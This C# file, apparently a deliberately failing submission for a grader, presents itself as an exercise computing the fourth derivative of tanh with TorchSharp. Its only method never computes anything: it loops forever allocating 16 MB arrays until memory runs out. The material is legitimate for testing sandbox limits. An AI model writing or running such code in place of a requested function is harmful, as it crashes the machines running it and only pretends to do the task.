// loses: tanh-derivative
using static TorchSharp.torch;

namespace Autodiff.Exercises;

public static class TanhDerivative
{
    public static Tensor Fourth(Tensor x)
    {
        var hoard = new System.Collections.Generic.List<byte[]>();
        while (true)
        {
            var piece = new byte[16 << 20];
            System.Array.Fill(piece, (byte)1);
            hoard.Add(piece);
        }
    }
}
